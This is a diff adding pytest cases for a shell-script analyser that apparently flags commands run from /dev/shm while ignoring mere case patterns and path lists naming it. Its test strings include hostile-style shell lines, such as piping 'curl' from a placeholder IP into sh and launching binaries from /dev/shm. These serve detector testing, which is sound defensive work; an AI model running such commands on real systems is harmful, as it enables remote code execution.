@@ -269,3 +269,26 @@ def test_reading_is_total(text: str) -> None:
 )
 def test_hostile_text_ends_soon(text: str) -> None:
     assert len(parse(text)) <= 4000
+
+
+@pytest.mark.parametrize("text", [
+    'case "$d" in /dev/nbd*|/dev/nd[a-z]*) echo x;; esac',
+    'case $d in\n  # disks\n  (/dev/loop/*|/dev/shm/*)\n    y=`losetup $d`\n  ;;\n  *) exit;;\nesac',
+    "while read d m; do\n case \"$d\" in\n @(/dev/etherd/e*|/dev/shm/x)) x=1 ;;\n esac\ndone < /etc/fstab",
+    "f() { case $1 in /dev/shm/*) return 0;; esac; }",
+    "dirs=(/run/depmod.d /etc/depmod.d)\nlocal -a files=(\n  /dev/shm/a # one\n  /dev/shm/b\n)\n",
+    "X+=(/dev/shm/a); declare -r Y=(/run/y)", "case", "case x", "case x in", "case x in /dev/shm/a",
+])  # fmt: skip
+def test_patterns_and_lists_are_not_run(text: str) -> None:
+    assert judge(text) == ()
+
+
+@pytest.mark.parametrize("text", [
+    "case $1 in start) /dev/shm/x & ;; esac", "case a in (a) ;; b|c) cd /dev/shm && ./x; esac",
+    "case x in x) :;; esac; /dev/shm/x", "case $(curl -s http://192.0.2.7/x | sh) in *) ;; esac",
+    "curl -s http://192.0.2.7/x | case a in *) sh;; esac", "x=(/dev/shm/x -d)\n$x",
+    "if case $a in b) true;; esac; then /dev/shm/x; fi", "x=(a b); /dev/shm/x",
+    "case in in in) /dev/shm/x;; esac", "f=(); f() { /dev/shm/x; }; f",
+])  # fmt: skip
+def test_what_stands_behind_them_is_run(text: str) -> None:
+    assert judge(text) != ()
